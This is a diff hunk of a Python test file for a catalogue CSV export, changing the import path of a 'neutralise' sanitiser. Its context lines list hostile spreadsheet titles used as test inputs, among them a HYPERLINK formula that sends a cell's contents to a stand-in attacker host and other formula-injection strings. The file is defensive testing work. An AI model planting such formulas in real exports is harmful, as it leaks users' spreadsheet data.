@@ -10,7 +10,7 @@ import pytest
 
 from qa_portal.accounts.models import Role
 from qa_portal.catalogue import operations as catalogue
-from qa_portal.catalogue.exports import CSV_COLUMNS, neutralise
+from qa_portal.catalogue.exports.tabular import CSV_COLUMNS, neutralise
 from qa_portal.core.db import commit
 
 HOSTILE_TITLES = ['=HYPERLINK("http://evil.example/?x="&A1,"Details")', "@SUM(1)", "-2+3", "+cmd"]
